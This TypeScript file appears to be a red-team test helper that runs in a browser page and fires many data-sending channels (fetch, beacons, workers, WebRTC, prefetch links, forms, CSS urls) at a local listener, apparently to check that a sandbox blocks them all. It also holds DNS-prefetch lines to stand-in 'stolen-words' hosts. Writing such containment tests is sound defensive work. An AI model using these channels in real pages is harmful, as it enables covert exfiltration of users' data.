// Tries all ways in which a script in a page could send data. Runs inside the page: nothing else of this file exists
// there.
/* eslint-disable n/no-unsupported-features/node-builtins -- The page's own, of Chromium. */

/**
 * Tries everything at once; resolves, after the time limit of all, with the attempts that did not fail by themselves.
 */
export async function sendEverywhere({
  port,
  udpPort
}: {
  port: number;
  udpPort: number;
}): Promise<string[]> {
  const to = (path: string) => `http://127.0.0.1:${port}/${path}`;
  const loud: string[] = [];
  const later: Promise<unknown>[] = [];
  const attempt = (name: string, deed: () => unknown) => {
    try {
      later.push(
        Promise.resolve(deed()).then(
          () => loud.push(name),
          () => undefined
        )
      );
    } catch {
      // The attempt was refused at once.
    }
  };
  const quietly = (deed: () => unknown) => {
    try {
      deed();
    } catch {
      // The attempt was refused at once.
    }
  };
  const add = (tag: string, attributes: Record<string, string>) =>
    quietly(() => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) quietly(() => made.setAttribute(name, value));
      document.body.append(made);
    });

  attempt('fetch', () => fetch(to('fetch')));
  attempt('fetch without cors', () =>
    fetch(to('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'x' })
  );
  attempt('fetch that outlives', () => fetch(to('keepalive'), { mode: 'no-cors', keepalive: true }));
  attempt('a module', () => import(/* @vite-ignore */ to('module.js')));
  attempt('a face', () => new FontFace('stolen', `url(${to('font-face')})`).load());
  attempt('a wasm', () => WebAssembly.compileStreaming(fetch(to('wasm'))));
  quietly(() => {
    const request = new XMLHttpRequest();
    request.open('POST', to('xhr'));
    request.send('x');
  });
  quietly(() => new WebSocket(`ws://127.0.0.1:${port}/socket`));
  quietly(() => new EventSource(to('events')));
  quietly(() => navigator.sendBeacon(to('beacon'), 'x'));
  quietly(() => new Worker(to('worker.js')));
  quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch('${to('blob-worker')}')`]))));
  quietly(() => new SharedWorker(to('shared-worker.js')));
  quietly(() => (new Image().src = to('image')));
  quietly(() => void new Audio(to('audio')).play().catch(() => undefined));
  quietly(() => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] });
    peer.createDataChannel('out');
    void peer
      .createOffer()
      .then(offer => peer.setLocalDescription(offer))
      .catch(() => undefined);
  });
  for (const rel of [
    'stylesheet',
    'icon',
    'manifest',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'modulepreload'
  ])
    add('link', { rel, href: to(`link-${rel}`) });
  for (const as of ['image', 'script', 'style', 'font', 'fetch', 'track'])
    add('link', { rel: 'preload', as, href: to(`preload-${as}`), crossorigin: '' });
  add('link', { rel: 'dns-prefetch', href: '//stolen-words.red-team.test' });
  add('link', { rel: 'preconnect', href: '//stolen-words-2.red-team.test' });
  for (const tag of [
    'iframe',
    'frame',
    'embed',
    'img',
    'video',
    'audio',
    'script',
    'input',
    'portal',
    'webview',
    'fencedframe'
  ])
    add(tag, { src: to(tag), type: tag === 'input' ? 'image' : '' });
  add('object', { data: to('object') });
  add('img', { srcset: `${to('srcset')} 2x` });
  add('iframe', { srcdoc: `<img src="${to('srcdoc')}">` });
  add('p', { style: `background:url(${to('style-attribute')})` });
  add('meta', { 'http-equiv': 'refresh', content: `0;url=${to('meta-refresh')}` });
  add('base', { href: to('base/') });
  add('a', { href: to('ping-target'), ping: to('ping'), id: 'red-team-ping' });
  quietly(() => document.getElementById('red-team-ping')?.click());
  quietly(() => (document.body.style.backgroundImage = `url(${to('style-script')})`));
  quietly(() => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body{cursor:url(${to('sheet')}),auto}`);
    document.adoptedStyleSheets.push(sheet);
  });
  quietly(() => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')] }] });
    document.body.append(rules);
  });
  for (const method of ['get', 'post'])
    quietly(() => {
      const form = document.createElement('form');
      Object.assign(form, { method, action: to(`form-${method}`) });
      document.body.append(form);
      form.submit();
    });
  await Promise.race([Promise.all(later), new Promise(done => setTimeout(done, 3000))]);
  await new Promise(done => setTimeout(done, 2000));
  return loud;
}
